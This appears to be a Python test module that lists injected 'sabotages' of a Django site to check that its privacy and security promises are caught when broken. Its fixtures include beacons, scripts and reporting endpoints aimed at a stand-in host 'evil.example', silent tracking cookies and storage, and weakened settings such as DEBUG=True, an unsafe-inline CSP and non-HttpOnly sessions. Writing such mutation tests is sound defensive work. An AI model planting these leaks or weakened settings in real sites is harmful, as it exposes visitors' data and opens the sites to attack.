"""Sabotages of what visitors get: pages, files and headers."""

from collections.abc import Callable

from django.http import HttpRequest, HttpResponse

from privacy.controllers.models import Controller
from telekom_site.pages.models import GlossaryTerm
from tests.privacy.promises.sabotages.kinds import (
    Sabotage,
    answer,
    at,
    body,
    changed,
    configured,
    cookie,
    done,
    header,
    more,
    number_of_visit,
    template,
    when,
    without_header,
    without_middleware,
)

HOME, NOTICE, NEWS = ("pages:home",), ("pages:notice",), ("pages:news",)
REPORT = ("privacy:transparency",)
ENGLISH = '{% if LANGUAGE_CODE == "en" %}'
FOREIGN = "https://cdn.evil.example/x"
FRAME = '<iframe src="/embed/facebook/"></iframe></main>'
MAIN, HEAD = "</main>", "</head>"
PIXEL = f"<style>p {{ background: url({FOREIGN}.gif) }}</style></head>"
REFRESH = f'<meta http-equiv="refresh" content="9; url={FOREIGN}"></head>'
TYPELESS = '<input name="born" id="id_born"></form>'
WORKER = "navigator.serviceWorker.register('/worker.js');"
OPEN_POLICY = "default-src 'self'; script-src * 'unsafe-inline'; frame-ancestors 'none'"
CLOSED = "default-src 'none'; frame-ancestors 'none'"
REPORTING = f"default-src 'none'; frame-ancestors 'none'; report-uri {FOREIGN}"


def is_of_browser(name: str, value: str) -> Callable[[HttpRequest, HttpResponse], bool]:
    """Whether a request has a header that browsers send, and programs often not."""
    return lambda request, _response: request.headers.get(name, "").startswith(value)


def is_pdf(request: HttpRequest, response: HttpResponse) -> bool:
    return response.get("Content-Type") == "application/pdf"


SHARING = [
    Sabotage(
        "S01",
        "script on English pages",
        template(
            "templates/base.html",
            HEAD,
            f'{ENGLISH}<script src="{FOREIGN}.js"></script>{{% endif %}}{HEAD}',
        ),
        HOME,
    ),
    Sabotage(
        "S01", "preload header", at("/en/", header("Link", f"<{FOREIGN}>; rel=preload")), HOME
    ),
    Sabotage(
        "S01",
        "preconnect",
        at("/en/", body(HEAD, f'<link rel=preconnect href="{FOREIGN}">{HEAD}')),
        HOME,
    ),
    Sabotage("S01", "refresh", at("/de/", body(HEAD, REFRESH)), HOME),
    Sabotage("S01", "pixel in a style", at("/en/news/", body(HEAD, PIXEL)), NEWS),
    Sabotage(
        "S01",
        "import in a style sheet",
        at("/static/site/base.css", more(f'@import url("{FOREIGN}.css");')),
        HOME,
    ),
    Sabotage(
        "S01",
        "font from elsewhere",
        at("/static/site/base.css", more("@font-face { src: url(//fonts.evil.example/a.woff2) }")),
        HOME,
    ),
    Sabotage(
        "S01",
        "beacon in a script",
        at("/static/social_consent/social_consent.js", more(f'navigator.sendBeacon("{FOREIGN}");')),
        HOME,
        {"S16"},
    ),
    Sabotage(
        "S01",
        "page that redirects elsewhere",
        at("/en/imprint/", answer(302, Location=FOREIGN)),
        ("pages:imprint",),
    ),
    Sabotage(
        "S01",
        "picture that redirects elsewhere",
        at("/static/site/pictures/hero.svg", answer(302, Location=FOREIGN)),
        HOME,
    ),
    Sabotage(
        "S01",
        "style sheet that redirects elsewhere",
        at("/static/site/layout.css", answer(301, Location=FOREIGN)),
        HOME,
    ),
    Sabotage(
        "S01",
        "reports of browsers to others",
        at("/en/", header("Reporting-Endpoints", f'default="{FOREIGN}"')),
        HOME,
    ),
    Sabotage(
        "S01",
        "network errors to others",
        at("/de/", header("Report-To", f'{{"endpoints": [{{"url": "{FOREIGN}"}}]}}')),
        HOME,
    ),
    Sabotage(
        "S01",
        "policy reports to others",
        at("/de/", header("Content-Security-Policy", REPORTING)),
        HOME,
    ),
    Sabotage(
        "S01",
        "base of all addresses elsewhere",
        at("/en/imprint/", body(HEAD, f'<base href="{FOREIGN}/">{HEAD}')),
        ("pages:imprint",),
    ),
    Sabotage(
        "S01",
        "set of pictures in a style sheet",
        at("/static/site/base.css", more(f'p {{ background: image-set("{FOREIGN}.png" 1x) }}')),
        HOME,
    ),
    Sabotage(
        "S01",
        "background of the body",
        at("/en/", body("<body", f'<body background="{FOREIGN}.png"')),
        HOME,
    ),
    Sabotage(
        "S01",
        "another server for ours",
        at("/de/", header("Alt-Svc", 'h3=":443", h2="evil.example:443"')),
        HOME,
    ),
    Sabotage(
        "S01",
        "pages fetched ahead from others",
        at("/en/", header("Speculation-Rules", f'"{FOREIGN}.json"')),
        HOME,
    ),
    Sabotage(
        "S22",
        "another source of the picture",
        at("/en/", body('stage"><img ', 'stage"><source srcset="/static/site/x.svg"><img ')),
        HOME,
    ),
    Sabotage(
        "S23",
        "plug-in for every frame",
        at("/embed/", when(is_of_browser("Sec-Fetch-Dest", "iframe"), answer(200))),
        HOME,
    ),
    Sabotage(
        "S23",
        "policy names a network by a pattern",
        at("/en/", header("Content-Security-Policy", f"{CLOSED}; frame-src *.facebook.com")),
        HOME,
    ),
    Sabotage("S22", "another drawing", at("/static/social_consent/facebook.svg", more(" ")), HOME),
    Sabotage(
        "S22",
        "frame in a button",
        at(
            "/en/",
            body(
                'class="social-consent__button" data-provider="facebook"',
                'class="social-consent__button" data-provider="facebook"><object></object',
            ),
        ),
        HOME,
        {"S26"},
    ),
    Sabotage(
        "S23",
        "plug-in for everybody who names a page",
        at("/embed/", when(lambda request, response: "page" in request.GET, answer(200))),
        HOME,
    ),
    Sabotage(
        "S23",
        "plug-in for any cookie",
        at("/embed/", when(lambda request, response: bool(request.COOKIES), answer(200))),
        HOME,
    ),
    Sabotage(
        "S23",
        "policy names a network",
        at(
            "/en/",
            header(
                "Content-Security-Policy",
                "default-src 'self'; img-src https://www.facebook.com; frame-ancestors 'none'",
            ),
        ),
        HOME,
    ),
    Sabotage(
        "S24",
        "preview of another visitor",
        at("/social/what-is-sent/", answer(200, "Mozilla/5.0")),
        HOME,
    ),
    Sabotage("S24", "no link to the preview", at("/", body("what-is-sent/", "x/")), HOME),
    Sabotage(
        "S25",
        "list without a network in English",
        at("/", body('value="facebook"', 'value="other"')),
        HOME,
        {"S01"},
    ),
    Sabotage(
        "S25",
        "reset that does nothing",
        at(
            "/social/choice/",
            when(lambda request, response: "reset" in request.POST, answer(303, Location="/de/")),
        ),
        HOME,
    ),
    Sabotage("S26", "frame on the next page", at("/de/news/", body(MAIN, FRAME)), HOME),
    Sabotage("S26", "frame in English", at("/en/", body(MAIN, FRAME)), HOME),
]

READING = [
    Sabotage(
        "S02",
        "text sent to a service",
        at("/static/social_consent/read_aloud.js", more('fetch("/speak");')),
        NOTICE,
    ),
    Sabotage(
        "S02",
        "text sent as the address of a picture",
        at("/static/social_consent/read_aloud.js", more("new Image().src = '/speak?a';")),
        NOTICE,
        {"S16"},
    ),
    Sabotage(
        "S02",
        "voices of others",
        at("/static/social_consent/read_aloud.js", body("localService", "anyService")),
        NOTICE,
    ),
    Sabotage(
        "S02",
        "no control in English",
        at("/en/privacy/", body("data-read-aloud", "data-x")),
        NOTICE,
    ),
    Sabotage(
        "S03",
        "login instead of the file",
        at(
            "/",
            when(lambda request, response: request.path.endswith(".pdf"), answer(200, "<html>")),
        ),
    ),
    Sabotage(
        "S03",
        "file that is gone in English",
        at("/", when(lambda request, response: request.path.endswith("en.pdf"), answer(404))),
    ),
    Sabotage("S03", "half a file", at("/", when(is_pdf, answer(200, "%PDF-1.7")))),
    Sabotage("S03", "no link in English", at("/en/", body(".pdf", ".txt"))),
    Sabotage(
        "S04", "no mark in English", at("/en/", body("external", "normal")), ("pages:companies",)
    ),
    Sabotage(
        "S04",
        "unmarked link in capitals",
        at("/de/imprint/", body(MAIN, '<A HREF="HTTPS://Evil.Example/">x</A></main>')),
        ("pages:imprint",),
    ),
    Sabotage(
        "S04",
        "unmarked link of a map",
        at("/de/imprint/", body(MAIN, '<area href="//evil.example/"></main>')),
        ("pages:imprint",),
    ),
    Sabotage(
        "S05", "company without a contact", changed(Controller.objects.all, privacy_contact="")
    ),
    Sabotage(
        "S05",
        "company without an authority",
        changed(lambda: Controller.objects.filter(is_default=False), authority=""),
    ),
    Sabotage(
        "S05",
        "form that is gone in English",
        at("/en/", when(lambda request, response: "privacy/contact" in request.path, answer(503))),
    ),
    Sabotage(
        "S06", "term deleted", done(lambda: GlossaryTerm.objects.filter(slug="cookie").delete())
    ),
    Sabotage(
        "S06", "glossary without anchors in English", at("/en/glossary/", body(" id=", " data-id="))
    ),
    Sabotage(
        "S06",
        "notice without links in English",
        at("/en/privacy/", body("/glossary/#", "/glossary/?")),
    ),
    Sabotage(
        "S16",
        "field without a reason in English",
        at("/en/enquiry/", body('<details class="why">', "<details>")),
    ),
    Sabotage("S16", "form that is gone", at("/de/account/register/", answer(404)), (), {"S28"}),
    Sabotage(
        "S16",
        "another field that asks",
        at("/en/enquiry/", body("</form>", '<input type="tel" name="phone" id="id_phone"></form>')),
    ),
    Sabotage(
        "S16",
        "field that asks for the day of birth",
        at("/de/enquiry/", body("</form>", '<select name="birth" id="id_birth"></select></form>')),
    ),
    Sabotage("S16", "field without a type", at("/en/enquiry/", body("</form>", TYPELESS))),
    Sabotage(
        "S28",
        "box checked by a script",
        at("/static/social_consent/bar.js", more("box.checked = true;")),
        HOME,
    ),
    Sabotage(
        "S28",
        "box checked in advance",
        at("/en/account/register/", body('type="checkbox"', 'type="checkbox" checked')),
    ),
    Sabotage(
        "S28",
        "box that is a condition",
        at(
            "/de/order/",
            body('type="checkbox" name="consent', 'type="checkbox" required name="consent'),
        ),
    ),
    Sabotage(
        "S28",
        "wording that was changed",
        at("/de/account/register/", body("über ihre Angebote", "über alles")),
    ),
]


PROTECTION = [
    Sabotage("S15", "cookie on English news", at("/en/news/", cookie), NEWS),
    Sabotage("S15", "cookie on the report", at("/en/privacy/transparency/", cookie), REPORT),
    Sabotage(
        "S15",
        "cookie for browsers only",
        at("/en/", when(is_of_browser("User-Agent", "Mozilla/5.0"), cookie)),
        HOME,
    ),
    Sabotage(
        "S15",
        "cookie for who speaks a language",
        at("/en/", when(is_of_browser("Accept-Language", "de"), cookie)),
        HOME,
    ),
    Sabotage(
        "S15",
        "cookie when a page is opened",
        at("/en/", when(is_of_browser("Sec-Fetch-Mode", "navigate"), cookie)),
        HOME,
    ),
    Sabotage(
        "S15",
        "cookie of a page that is missing",
        at("/", when(lambda request, response: response.status_code == 404, cookie)),
        HOME,
    ),
    Sabotage(
        "S15",
        "cookie of a redirect",
        at("/", when(lambda request, response: response.status_code == 302, cookie)),
        HOME,
    ),
    Sabotage("S15", "cookie of a style sheet", at("/static/site/base.css", cookie), HOME),
    Sabotage("S15", "cookie of a picture", at("/static/site/pictures/hero.svg", cookie), HOME),
    Sabotage("S15", "cookie of robots.txt", at("/robots.txt", cookie), HOME),
    Sabotage(
        "S15",
        "cookie that ends at once",
        at("/en/news/", header("Set-Cookie", "a=; Max-Age=0")),
        NEWS,
    ),
    Sabotage(
        "S15",
        "cookie by a script",
        at("/static/social_consent/social_consent.js", more('document.cookie = "visitor=1";')),
        HOME,
    ),
    Sabotage(
        "S15",
        "storage by a script",
        at("/static/social_consent/bar.js", more('localStorage.setItem("visitor", "1");')),
        HOME,
    ),
    Sabotage("S15", "worker that stays", at("/static/social_consent/bar.js", more(WORKER)), HOME),
    Sabotage(
        "S15",
        "cookie by the page",
        at(
            "/en/",
            body(
                HEAD,
                '<script>document.cookie="a=1"</script></head>',
            ),
        ),
        HOME,
    ),
    Sabotage(
        "S15",
        "file with a tag for each visitor",
        at("/static/site/base.css", number_of_visit),
        HOME,
    ),
    Sabotage("S31", "no policy", without_middleware("CSPMiddleware"), HOME),
    Sabotage("S31", "may be framed", without_middleware("XFrameOptionsMiddleware"), HOME),
    Sabotage("S31", "referrer to everybody", configured(SECURE_REFERRER_POLICY="unsafe-url"), HOME),
    Sabotage(
        "S31",
        "open policy in English",
        at("/en/", header("Content-Security-Policy", OPEN_POLICY)),
        HOME,
    ),
    Sabotage("S31", "errors that show the code", configured(DEBUG=True), HOME),
    Sabotage("S31", "session for scripts", configured(SESSION_COOKIE_HTTPONLY=False), HOME),
    Sabotage(
        "S31",
        "pages with cookies for other sites",
        configured(CORS_ALLOW_CREDENTIALS=True, CORS_URLS_REGEX=r"^/.*$"),
        HOME,
    ),
    Sabotage(
        "S31",
        "unprotected file",
        at("/static/site/base.css", without_header("X-Content-Type-Options")),
        HOME,
    ),
]

SABOTAGES = [*SHARING, *READING, *PROTECTION]
